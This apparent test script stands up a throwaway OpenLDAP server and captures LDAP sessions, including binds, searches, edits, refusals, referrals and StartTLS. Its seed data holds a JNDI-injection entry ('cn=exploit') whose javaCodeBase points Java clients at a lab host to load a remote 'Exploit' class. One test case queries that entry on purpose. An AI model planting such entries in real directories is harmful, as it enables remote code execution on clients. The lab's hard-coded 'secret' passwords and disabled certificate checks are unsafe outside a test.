# SPDX-License-Identifier: Apache-2.0
# OpenLDAP. Packages: slapd ldap-utils openssl

LDAP_ADMIN=(-D cn=admin,dc=a,dc=example -w secret)

area_ldap() {
    local dir=$WORK/ldap
    mkdir -p "$dir/db"
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=ldap.example \
        -keyout "$dir/key.pem" -out "$dir/cert.pem" 2>/dev/null
    cat >"$dir/slapd.conf" <<C
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
include /etc/ldap/schema/java.schema
modulepath /usr/lib/ldap
moduleload back_mdb
TLSCertificateFile $dir/cert.pem
TLSCertificateKeyFile $dir/key.pem
TLSProtocolMin 3.3
database mdb
suffix dc=a,dc=example
rootdn cn=admin,dc=a,dc=example
rootpw secret
directory $dir/db
access to attrs=userPassword by anonymous auth by * none
access to * by users read by anonymous read
C
    cat >"$dir/entries.ldif" <<'L'
dn: dc=a,dc=example
objectClass: domain
dc: a

dn: ou=people,dc=a,dc=example
objectClass: organizationalUnit
ou: people

dn: cn=amy,ou=people,dc=a,dc=example
objectClass: inetOrgPerson
cn: amy
sn: Smith
mail: amy@a.example
userPassword: secret

dn: cn=exploit,dc=a,dc=example
objectClass: javaContainer
objectClass: javaNamingReference
cn: exploit
javaClassName: Exploit
javaCodeBase: http://10.20.0.2:8000/
javaFactory: Exploit

dn: ou=far,dc=a,dc=example
objectClass: referral
objectClass: extensibleObject
ou: far
ref: ldap://ldap.b.example/ou=far,dc=b,dc=example
L
    slapadd -f "$dir/slapd.conf" -l "$dir/entries.ldif" >>"$WORK/server.log" 2>&1
    serve slapd -d 0 -f "$dir/slapd.conf" -h 'ldap://0.0.0.0:389'
    wait_tcp 389
}

ldap_tools() {
    made_with sh -c 'slapd -VV 2>&1 | grep -o "slapd [0-9.]*"'
}

ldap_do() { # program option...
    local program=$1
    shift
    client "$program" -x -H "ldap://$SERVER" "$@"
}

case_ldap_session() {
    about "Binds, a search with a filter of all kinds, a comparison, an entry added, changed," \
        "renamed and deleted."
    ldap_tools
    capture tcp port 389
    ldap_do ldapsearch "${LDAP_ADMIN[@]}" -b ou=people,dc=a,dc=example \
        '(&(objectClass=inetOrgPerson)(|(cn=a*y)(sn~=smith)(!(mail=*@b.example)))(!(uid:dn:=x)))' cn mail
    try ldapcompare -x -H "ldap://$SERVER" "${LDAP_ADMIN[@]}" cn=amy,ou=people,dc=a,dc=example \
        sn:Smith
    printf 'dn: cn=bob,ou=people,dc=a,dc=example\nobjectClass: person\ncn: bob\nsn: Jones\n' |
        ldap_do ldapadd "${LDAP_ADMIN[@]}"
    printf '%s\n' 'dn: cn=bob,ou=people,dc=a,dc=example' 'changetype: modify' 'replace: sn' \
        'sn: Miller' | ldap_do ldapmodify "${LDAP_ADMIN[@]}"
    ldap_do ldapmodrdn "${LDAP_ADMIN[@]}" cn=bob,ou=people,dc=a,dc=example cn=rob
    ldap_do ldapdelete "${LDAP_ADMIN[@]}" cn=rob,ou=people,dc=a,dc=example
    ldap_do ldapwhoami "${LDAP_ADMIN[@]}"
}

case_ldap_refused() {
    about "A wrong password, a change without rights, a referral, an entry that makes Java load" \
        "a class."
    ldap_tools
    capture tcp port 389
    try ldapsearch -x -H "ldap://$SERVER" -D cn=amy,ou=people,dc=a,dc=example -w wrong
    try ldapdelete -x -H "ldap://$SERVER" -D cn=amy,ou=people,dc=a,dc=example -w secret \
        ou=people,dc=a,dc=example
    try ldapsearch -x -H "ldap://$SERVER" -b ou=far,dc=a,dc=example
    ldap_do ldapsearch -b cn=exploit,dc=a,dc=example -s base
}

case_ldap_start_tls() {
    about "StartTLS, and a search under TLS 1.2."
    ldap_tools
    capture tcp port 389
    client env LDAPTLS_REQCERT=never LDAPTLS_PROTOCOL_MIN=3.3 \
        LDAPTLS_CIPHER_SUITE=NORMAL:-VERS-ALL:+VERS-TLS1.2 \
        ldapsearch -x -ZZ -H "ldap://$SERVER" -b dc=a,dc=example -s base
}
